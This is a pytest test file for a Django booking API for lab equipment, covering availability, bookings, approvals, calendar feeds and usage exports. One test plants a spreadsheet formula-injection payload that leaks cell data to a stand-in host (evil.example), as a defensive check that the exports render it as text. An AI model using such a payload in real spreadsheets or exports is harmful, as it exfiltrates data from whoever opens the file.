import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from booking import services
from booking.models import Booking, BookingStatus, Category, Closure, EquipmentStatus, Line
from tests.booking.conftest import local
from tests.booking.factories import EquipmentFactory
from tests.factories import MembershipFactory, OrganisationFactory

pytestmark = pytest.mark.django_db
BOOKINGS = "/api/v1/bookings/"


def iso(moment: datetime.datetime) -> str:
    return moment.isoformat()


def payload(machine, start, end, **extra):
    return {"equipment": machine.pk, "start": iso(start), "end": iso(end), **extra}


@pytest.fixture
def booked(frozen, member, machine):
    return services.booking_create(
        user=member, equipment=machine, start=local(2026, 11, 26, 9), end=local(2026, 11, 26, 10)
    )


# --- catalogue ------------------------------------------------------------------------------


def test_catalogue_fields_and_filters(client_for, member, lab_hours):
    EquipmentFactory(name="Mélangeur planétaire", category=Category.PROTOTYPING, line=Line.BOTH)
    EquipmentFactory(name="Sertisseuse", category=Category.PACKAGING, line=Line.FOOD)
    EquipmentFactory(
        name="Émulsionneur sous vide",
        category=Category.TRANSFORMATION,
        line=Line.COSMETICS,
        status=EquipmentStatus.MAINTENANCE,
    )
    client = client_for(member)
    response = client.get("/api/v1/equipment/")
    assert response.status_code == 200
    first = response.json()["results"][0]
    for field in (
        "id",
        "name",
        "category",
        "status",
        "requires_approval",
        "required_course",
        "slot_minutes",
        "buffer_minutes",
        "hourly_rate_member",
        "hourly_rate_non_member",
    ):
        assert field in first

    def names(query):
        return [e["name"] for e in client.get(f"/api/v1/equipment/?{query}").json()["results"]]

    assert names("line=food") == ["Mélangeur planétaire", "Sertisseuse"]
    assert names("line=cosmetics") == ["Mélangeur planétaire", "Émulsionneur sous vide"]
    assert names("category=packaging") == ["Sertisseuse"]
    assert names("status=maintenance") == ["Émulsionneur sous vide"]
    assert names("search=sous vide") == ["Émulsionneur sous vide"]
    bad = client.get("/api/v1/equipment/?line=wood")
    assert bad.status_code == 400 and "line" in bad.json()["fields"]


def test_only_staff_edit_the_catalogue(client_for, member, staff):
    body = {
        "name": "Autoclave",
        "category": "transformation",
        "slot_minutes": 30,
        "hourly_rate_member": "80.00",
        "hourly_rate_non_member": "150.00",
    }
    assert client_for(member).post("/api/v1/equipment/", body).status_code == 403
    created = client_for(staff).post("/api/v1/equipment/", body)
    assert created.status_code == 201 and created.json()["name"] == "Autoclave"
    odd = client_for(staff).patch(
        f"/api/v1/equipment/{created.json()['id']}/", {"min_duration_minutes": 45}, format="json"
    )
    assert odd.status_code == 400 and "min_duration_minutes" in odd.json()["fields"]


def test_staff_manage_opening_hours_and_closures(client_for, member, staff, machine):
    rule = {"weekday": 5, "opens_at": "08:30", "closes_at": "12:30"}
    assert client_for(member).post("/api/v1/opening-hours/", rule).status_code == 403
    assert client_for(staff).post("/api/v1/opening-hours/", rule).status_code == 201
    backwards = {"weekday": 5, "opens_at": "12:30", "closes_at": "08:30"}
    response = client_for(staff).post("/api/v1/opening-hours/", backwards)
    assert response.status_code == 400 and "closes_at" in response.json()["fields"]
    closure = {
        "equipment": machine.pk,
        "start": iso(local(2027, 1, 11)),
        "end": iso(local(2027, 1, 12)),
        "reason": "Manifeste de l'indépendance",
    }
    assert client_for(staff).post("/api/v1/closures/", closure).status_code == 201
    assert client_for(member).get("/api/v1/closures/").json()["count"] == 1


def test_anonymous_gets_401_everywhere(api_client, booked):
    for url in (
        "/api/v1/equipment/",
        BOOKINGS,
        f"{BOOKINGS}{booked.pk}/",
        "/api/v1/booking-series/",
        "/api/v1/calendar-feeds/",
        "/api/v1/usage/",
    ):
        assert api_client.get(url).status_code == 401, url
    assert api_client.post(BOOKINGS, {}).status_code == 401


# --- availability ---------------------------------------------------------------------------


def test_availability_returns_free_intervals_with_offsets(frozen, client_for, member, booked):
    url = f"/api/v1/equipment/{booked.equipment_id}/availability/"
    response = client_for(member).get(
        url, {"start": iso(local(2026, 11, 26)), "end": iso(local(2026, 11, 27))}
    )
    assert response.status_code == 200
    free = [
        (datetime.datetime.fromisoformat(i["start"]), datetime.datetime.fromisoformat(i["end"]))
        for i in response.json()["free"]
    ]
    assert all(s.utcoffset() is not None for s, _e in free)  # ISO 8601 with an offset
    assert free == [
        (local(2026, 11, 26, 8, 30), local(2026, 11, 26, 9)),
        (local(2026, 11, 26, 10), local(2026, 11, 26, 17, 30)),
    ]


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ({}, "start"),
        ({"start": "2026-11-26T00:00:00+00:00"}, "end"),
        ({"start": "tomorrow", "end": "2026-11-27T00:00:00+00:00"}, "start"),
        ({"start": "2026-11-27T00:00:00+00:00", "end": "2026-11-26T00:00:00+00:00"}, "end"),
        ({"start": "2026-11-26T00:00:00+00:00", "end": "2027-03-01T00:00:00+00:00"}, "end"),
    ],
)
def test_availability_bad_range_is_400_naming_the_field(client_for, member, machine, query, field):
    response = client_for(member).get(f"/api/v1/equipment/{machine.pk}/availability/", query)
    assert response.status_code == 400
    assert field in response.json()["fields"]


def test_availability_query_count_does_not_grow_with_bookings(
    frozen, client_for, member, machine, django_assert_max_num_queries
):
    for day in range(24, 28):
        for hour in (9, 11, 14):
            services.booking_create(
                user=member,
                equipment=machine,
                start=local(2026, 11, day, hour),
                end=local(2026, 11, day, hour + 1),
            )
    client = client_for(member)
    # free slots, and what takes the machine (bookings, sessions, closures) beside them
    with django_assert_max_num_queries(9):
        response = client.get(
            f"/api/v1/equipment/{machine.pk}/availability/",
            {"start": iso(local(2026, 11, 23)), "end": iso(local(2026, 12, 21))},
        )
    assert len(response.json()["free"]) > 12


def test_availability_shows_closures_of_the_lab_and_the_machine_beside_bookings(
    frozen, client_for, member, other_member, machine
):
    services.booking_create(
        user=other_member,
        equipment=machine,
        start=local(2026, 11, 25, 9),
        end=local(2026, 11, 25, 10),
    )
    Closure.objects.create(
        equipment=None, start=local(2026, 11, 25, 13), end=local(2026, 11, 25, 14), reason="Fête"
    )
    Closure.objects.create(
        equipment=machine,
        start=local(2026, 11, 25, 15),
        end=local(2026, 11, 25, 16),
        reason="Entretien",
    )
    Closure.objects.create(  # another machine's: not this one's business
        equipment=EquipmentFactory(),
        start=local(2026, 11, 25, 11),
        end=local(2026, 11, 25, 12),
        reason="Ailleurs",
    )
    response = client_for(member).get(
        f"/api/v1/equipment/{machine.pk}/availability/",
        {"start": iso(local(2026, 11, 25)), "end": iso(local(2026, 11, 26))},
    )
    body = response.json()
    assert [(b["kind"], b["label"], b["start"], b["end"]) for b in body["busy"]] == [
        ("booking", "Réservé", "2026-11-25T09:00:00Z", "2026-11-25T10:00:00Z"),
        ("closure", "Fête", "2026-11-25T13:00:00Z", "2026-11-25T14:00:00Z"),
        ("closure", "Entretien", "2026-11-25T15:00:00Z", "2026-11-25T16:00:00Z"),
    ]
    assert [(f["start"], f["end"]) for f in body["free"]] == [
        ("2026-11-25T08:30:00Z", "2026-11-25T09:00:00Z"),
        ("2026-11-25T10:00:00Z", "2026-11-25T13:00:00Z"),
        ("2026-11-25T14:00:00Z", "2026-11-25T15:00:00Z"),
        ("2026-11-25T16:00:00Z", "2026-11-25T17:30:00Z"),
    ]


# --- bookings -------------------------------------------------------------------------------


def test_booking_through_the_api_is_201_with_price_and_status(frozen, client_for, member, machine):
    response = client_for(member).post(
        BOOKINGS,
        payload(machine, local(2026, 11, 24, 9), local(2026, 11, 24, 10, 30)),
        format="json",
    )
    assert response.status_code == 201, response.json()
    body = response.json()
    assert (body["status"], body["price"]) == ("confirmed", "150.00")
    assert datetime.datetime.fromisoformat(body["start"]) == local(2026, 11, 24, 9)
    assert [e["to_status"] for e in body["events"]] == ["confirmed"]


def test_second_booking_of_a_taken_slot_is_refused_with_409(
    frozen, client_for, other_member, booked
):
    response = client_for(other_member).post(
        BOOKINGS, payload(booked.equipment, booked.start, booked.end), format="json"
    )
    assert response.status_code == 409
    assert response.json()["code"] == "slot_unavailable"


@pytest.mark.parametrize(
    ("start", "end", "code"),
    [
        (local(2026, 11, 24, 7), local(2026, 11, 24, 8), "outside_opening_hours"),
        (local(2026, 11, 24, 9, 10), local(2026, 11, 24, 10, 10), "off_slot_step"),
        (local(2026, 11, 20, 9), local(2026, 11, 20, 10), "in_the_past"),
        (local(2026, 11, 24, 10), local(2026, 11, 24, 9), "invalid"),
    ],
)
def test_rule_breaking_booking_is_400_with_its_code(
    frozen, client_for, member, machine, start, end, code
):
    response = client_for(member).post(BOOKINGS, payload(machine, start, end), format="json")
    assert response.status_code == 400
    assert response.json()["code"] == code


def test_bad_booking_input_is_400_naming_the_field(frozen, client_for, member, machine):
    response = client_for(member).post(BOOKINGS, {"equipment": machine.pk, "start": "soon"})
    assert response.status_code == 400
    assert {"start", "end"} <= set(response.json()["fields"])
    naive = client_for(member).post(
        BOOKINGS,
        {
            "equipment": 999999,
            "start": iso(local(2026, 11, 24, 9)),
            "end": iso(local(2026, 11, 24, 10)),
        },
    )
    assert naive.status_code == 400 and "equipment" in naive.json()["fields"]


def test_a_time_without_offset_is_the_wall_clock_unless_a_switch_skips_or_repeats_it(
    frozen, client_for, member, machine
):
    client = client_for(member)
    local_time = client.post(
        BOOKINGS,
        {"equipment": machine.pk, "start": "2026-11-24T09:00:00", "end": "2026-11-24T10:00:00"},
    )
    assert local_time.status_code == 201
    assert datetime.datetime.fromisoformat(local_time.json()["start"]) == local(2026, 11, 24, 9)
    for naive in ("2026-03-22T02:30:00", "2026-09-20T01:30:00"):  # skipped, then repeated
        response = client.get(
            f"/api/v1/equipment/{machine.pk}/availability/",
            {"start": naive, "end": "2026-12-01T00:00:00+00:00"},
        )
        assert response.status_code == 400 and "start" in response.json()["fields"]


def test_certification_required_is_403(frozen, client_for, member, lab_hours):
    from trainings.models import Course

    machine = EquipmentFactory(required_course=Course.objects.create(title="Autoclave safety"))
    response = client_for(member).post(
        BOOKINGS, payload(machine, local(2026, 11, 24, 9), local(2026, 11, 24, 10)), format="json"
    )
    assert response.status_code == 403
    assert response.json()["code"] == "certification_required"


def test_organisation_choice_several_none_or_foreign(
    frozen, client_for, member, machine, other_organisation
):
    second = OrganisationFactory(name="Second")
    MembershipFactory(user=member, organisation=second)
    client = client_for(member)
    body = payload(machine, local(2026, 11, 24, 9), local(2026, 11, 24, 10))
    none = client.post(BOOKINGS, body, format="json")
    assert none.status_code == 400 and none.json()["code"] == "organisation_required"
    assert "organisation" in none.json()["fields"]
    foreign = client.post(BOOKINGS, {**body, "organisation": other_organisation.pk}, format="json")
    missing = client.post(BOOKINGS, {**body, "organisation": 987654}, format="json")
    assert foreign.status_code == missing.status_code == 404
    assert foreign.json() == missing.json()  # nothing tells that one of them exists
    named = client.post(BOOKINGS, {**body, "organisation": second.pk}, format="json")
    assert named.status_code == 201 and named.json()["organisation"] == second.pk


def test_members_see_only_their_organisations_bookings(
    frozen, client_for, member, other_member, staff, booked
):
    assert client_for(member).get(BOOKINGS).json()["count"] == 1
    assert client_for(other_member).get(BOOKINGS).json()["count"] == 0
    assert client_for(staff).get(BOOKINGS).json()["count"] == 1
    detail = client_for(other_member).get(f"{BOOKINGS}{booked.pk}/")
    assert detail.status_code == 404
    assert client_for(other_member).get(f"{BOOKINGS}99999/").json() == detail.json()
    for verb in ("cancel", "approve", "reject", "check-in", "no-show"):
        response = client_for(other_member).post(f"{BOOKINGS}{booked.pk}/{verb}/", {"reason": "x"})
        assert response.status_code == 404, verb
    booked.refresh_from_db()
    assert booked.status == BookingStatus.CONFIRMED


def test_bookings_list_filters(frozen, client_for, member, staff, machine, booked):
    other_machine = EquipmentFactory()
    services.booking_create(
        user=member,
        equipment=other_machine,
        start=local(2026, 12, 3, 9),
        end=local(2026, 12, 3, 10),
    )
    client = client_for(staff)

    def count(query):
        return client.get(f"{BOOKINGS}?{query}").json()["count"]

    assert count(f"equipment={machine.pk}") == 1
    assert count("status=confirmed") == 2 and count("status=pending") == 0
    assert count("from=2026-12-01") == 1 and count("to=2026-11-30") == 1
    assert count("from=2026-11-26T09:30:00%2B00:00&to=2026-11-26") == 1
    assert count(f"organisation={booked.organisation_id}") == 2
    assert client.get(f"{BOOKINGS}?from=someday").status_code == 400


def test_bookings_list_query_count_does_not_grow_with_rows(
    frozen, client_for, member, machine, django_assert_max_num_queries
):
    for day in range(24, 28):
        for hour in (9, 11, 14):
            services.booking_create(
                user=member,
                equipment=machine,
                start=local(2026, 11, day, hour),
                end=local(2026, 11, day, hour + 1),
            )
    client = client_for(member)
    with django_assert_max_num_queries(4):
        response = client.get(BOOKINGS)
    assert response.json()["count"] == 12


def test_cancel_via_api_and_the_deadline_code(frozen, client_for, member, staff, machine, booked):
    soon = services.booking_create(
        user=member, equipment=machine, start=local(2026, 11, 23, 12), end=local(2026, 11, 23, 13)
    )
    late = client_for(member).post(f"{BOOKINGS}{soon.pk}/cancel/")
    assert late.status_code == 400 and late.json()["code"] == "cancellation_deadline_passed"
    ok = client_for(member).post(f"{BOOKINGS}{booked.pk}/cancel/", {"reason": "Sample not ready"})
    assert ok.status_code == 200 and ok.json()["status"] == "cancelled"
    assert ok.json()["events"][-1]["reason"] == "Sample not ready"
    again = client_for(member).post(f"{BOOKINGS}{booked.pk}/cancel/")
    assert again.status_code == 409 and again.json()["code"] == "invalid_state"
    assert client_for(staff).post(f"{BOOKINGS}{soon.pk}/cancel/").status_code == 200


def test_approval_flow_through_the_api(frozen, client_for, member, staff, lab_hours):
    machine = EquipmentFactory(requires_approval=True)
    created = client_for(member).post(
        BOOKINGS, payload(machine, local(2026, 11, 25, 9), local(2026, 11, 25, 10)), format="json"
    )
    assert created.json()["status"] == "pending"
    url = f"{BOOKINGS}{created.json()['id']}/"
    assert client_for(member).post(f"{url}approve/").status_code == 403
    no_reason = client_for(staff).post(f"{url}reject/", {})
    assert no_reason.status_code == 400 and "reason" in no_reason.json()["fields"]
    approved = client_for(staff).post(f"{url}approve/")
    assert approved.status_code == 200 and approved.json()["status"] == "confirmed"
    detail = client_for(member).get(url).json()
    assert [(e["from_status"], e["to_status"], e["actor"]) for e in detail["events"]] == [
        ("", "pending", member.username),
        ("pending", "confirmed", staff.username),
    ]
    conflict = client_for(staff).post(f"{url}reject/", {"reason": "late"})
    assert conflict.status_code == 409 and conflict.json()["code"] == "invalid_state"


def test_check_in_and_no_show_are_staff_only(frozen, client_for, member, staff, machine):
    booking = services.booking_create(
        user=member, equipment=machine, start=local(2026, 11, 23, 9), end=local(2026, 11, 23, 10)
    )
    assert client_for(member).post(f"{BOOKINGS}{booking.pk}/check-in/").status_code == 403
    early = client_for(staff).post(f"{BOOKINGS}{booking.pk}/no-show/")
    assert early.status_code == 400 and early.json()["code"] == "not_started"
    frozen.move_to(local(2026, 11, 23, 9, 20))
    shown = client_for(staff).post(f"{BOOKINGS}{booking.pk}/no-show/")
    assert shown.status_code == 200 and shown.json()["status"] == "no_show"
    assert client_for(staff).post(f"{BOOKINGS}{booking.pk}/check-in/").status_code == 409


# --- series ---------------------------------------------------------------------------------


def test_series_via_api_lists_booked_and_clashing_dates(
    frozen, client_for, member, other_member, machine
):
    services.booking_create(
        user=other_member,
        equipment=machine,
        start=local(2026, 12, 8, 9),
        end=local(2026, 12, 8, 10),
    )
    response = client_for(member).post(
        "/api/v1/booking-series/",
        payload(machine, local(2026, 12, 1, 9), local(2026, 12, 1, 10), weekly_until="2026-12-15"),
        format="json",
    )
    assert response.status_code == 201, response.json()
    body = response.json()
    assert body["booked"] == ["2026-12-01", "2026-12-15"]
    assert body["clashes"][0]["date"] == "2026-12-08"
    assert body["clashes"][0]["code"] == "slot_unavailable"
    series_id = body["series"]["id"]
    assert (
        client_for(other_member).post(f"/api/v1/booking-series/{series_id}/cancel/").status_code
        == 404
    )
    cancelled = client_for(member).post(
        f"/api/v1/booking-series/{series_id}/cancel/", {"from_date": "2026-12-10"}
    )
    assert cancelled.status_code == 200 and cancelled.json()["cancelled"] == ["2026-12-15"]
    assert Booking.objects.filter(series_id=series_id, status="confirmed").count() == 1


# --- calendar feeds -------------------------------------------------------------------------


def test_calendar_feed_content_and_revocation(frozen, client_for, api_client, member, booked):
    client = client_for(member)
    created = client.post(
        "/api/v1/calendar-feeds/", {"kind": "organisation", "organisation": booked.organisation_id}
    )
    assert created.status_code == 201
    token = created.json()["token"]
    assert created.json()["url"].endswith(f"/api/v1/calendar/{token}.ics")
    feed = api_client.get(f"/api/v1/calendar/{token}.ics")  # no login: the token is the key
    assert feed.status_code == 200
    assert feed["Content-Type"].startswith("text/calendar")
    text = feed.content.decode()
    assert "BEGIN:VCALENDAR" in text and f"UID:booking-{booked.pk}@caiac-lab" in text
    assert (
        "DTSTART;TZID=Africa/Casablanca:20261126T090000" in text
        or "DTSTART:20261126T090000Z" in text
    )
    assert "Mélangeur planétaire" in text
    assert [f["token"] for f in client.get("/api/v1/calendar-feeds/").json()] == [token]
    assert client.delete(f"/api/v1/calendar-feeds/{created.json()['id']}/").status_code == 204
    assert api_client.get(f"/api/v1/calendar/{token}.ics").status_code == 404
    assert api_client.get("/api/v1/calendar/not-a-token.ics").status_code == 404
    assert client.get("/api/v1/calendar-feeds/").json() == []


def test_feed_tokens_are_personal_and_scoped(
    frozen, client_for, member, other_member, other_organisation, machine
):
    foreign = client_for(member).post(
        "/api/v1/calendar-feeds/", {"kind": "organisation", "organisation": other_organisation.pk}
    )
    assert foreign.status_code == 404
    mine = client_for(member).post(
        "/api/v1/calendar-feeds/", {"kind": "equipment", "equipment": machine.pk}
    )
    assert mine.status_code == 201
    assert (
        client_for(other_member).delete(f"/api/v1/calendar-feeds/{mine.json()['id']}/").status_code
        == 404
    )
    bad = client_for(member).post("/api/v1/calendar-feeds/", {"kind": "everything"})
    assert bad.status_code == 400 and "kind" in bad.json()["fields"]


def test_machine_feed_hides_other_organisations_names(
    frozen, client_for, api_client, other_member, booked
):
    token = (
        client_for(other_member)
        .post("/api/v1/calendar-feeds/", {"kind": "equipment", "equipment": booked.equipment_id})
        .json()["token"]
    )
    text = api_client.get(f"/api/v1/calendar/{token}.ics").content.decode()
    assert f"UID:booking-{booked.pk}@caiac-lab" in text
    assert booked.organisation.name not in text


# --- usage ----------------------------------------------------------------------------------


def test_usage_report_for_staff_as_json_and_csv(frozen, client_for, member, staff, machine, booked):
    query = {"start": iso(local(2026, 11, 23)), "end": iso(local(2026, 11, 30))}
    assert client_for(member).get("/api/v1/usage/", query).status_code == 403
    response = client_for(staff).get("/api/v1/usage/", query)
    assert response.status_code == 200
    row = next(r for r in response.json()["equipment"] if r["id"] == machine.pk)
    assert row["hours_booked"] == "1.00" and row["opening_hours"] == "45.00"
    assert row["utilisation"] == "0.022" and row["no_shows"] == 0
    assert response.json()["organisations"][0]["hours_booked"] == "1.00"
    csv_response = client_for(staff).get("/api/v1/usage.csv", query)
    assert csv_response.status_code == 200 and csv_response["Content-Type"].startswith("text/csv")
    text = csv_response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    lines = text[1:].splitlines()
    assert lines[0] == (
        "Machine,Heures réservées,Heures utilisées (pointées),Absences,Horaires d\u2019ouverture,"
        "Taux d\u2019occupation (%)"
    )
    assert f"{machine.name},1.00,0.00,0,45.00,2.2" in lines
    assert all(line.count(",") == 5 for line in lines), "one table"
    organisations = client_for(staff).get("/api/v1/usage.csv", {**query, "table": "organisations"})
    assert organisations.content.decode().splitlines()[1].startswith("Coopérative Amalou,1.00")
    via_format = client_for(staff).get("/api/v1/usage/", {**query, "format": "csv"})
    assert via_format.content == csv_response.content
    xlsx = client_for(staff).get("/api/v1/usage.xlsx", query)
    assert xlsx.status_code == 200
    assert load_workbook(io.BytesIO(xlsx.content)).sheetnames == ["Machines", "Organisations"]
    assert client_for(staff).get("/api/v1/usage/", {"start": "x"}).status_code == 400


def test_a_formula_in_a_name_comes_out_as_text_in_the_usage_exports(
    frozen, client_for, member, staff, machine, booked
):
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez")'
    booked.organisation.name = formula
    booked.organisation.save()
    machine.name = "@SUM(1+1)"
    machine.save()
    query = {"start": iso(local(2026, 11, 23)), "end": iso(local(2026, 11, 30))}
    csv_text = client_for(staff).get("/api/v1/usage.csv", {**query, "table": "organisations"})
    assert csv_text.content.decode("utf-8-sig").splitlines()[1].startswith("\"'=HYPERLINK(")
    machines = client_for(staff).get("/api/v1/usage.csv", query).content.decode("utf-8-sig")
    assert "'@SUM(1+1)," in machines
    book = load_workbook(io.BytesIO(client_for(staff).get("/api/v1/usage.xlsx", query).content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)  # no live formula anywhere
    texts = [cell.value for cell in cells if cell.data_type == "s"]
    assert any(formula in text for text in texts) and any("@SUM(1+1)" in t for t in texts)


def test_reverse_names_exist():
    assert reverse("api:booking-list") == BOOKINGS


def test_lab_credits_show_hours_left_to_their_organisation_only(
    frozen, client_for, member, other_member, organisation, machine
):
    from decimal import Decimal

    services.lab_credit_grant(
        organisation=organisation,
        period_start=datetime.date(2026, 11, 1),
        period_end=datetime.date(2026, 12, 31),
        hours=Decimal("5"),
        source="Incubation stage",
    )
    services.booking_create(
        user=member, equipment=machine, start=local(2026, 11, 24, 9), end=local(2026, 11, 24, 11)
    )
    mine = client_for(member).get("/api/v1/lab-credits/").json()["results"]
    assert [(c["hours"], c["hours_left"]) for c in mine] == [("5.00", "3.00")]
    assert client_for(other_member).get("/api/v1/lab-credits/").json()["count"] == 0


def test_staff_must_name_the_organisation(frozen, client_for, staff, machine):
    response = client_for(staff).post(
        BOOKINGS, payload(machine, local(2026, 11, 24, 9), local(2026, 11, 24, 10)), format="json"
    )
    assert response.status_code == 400 and response.json()["code"] == "organisation_required"
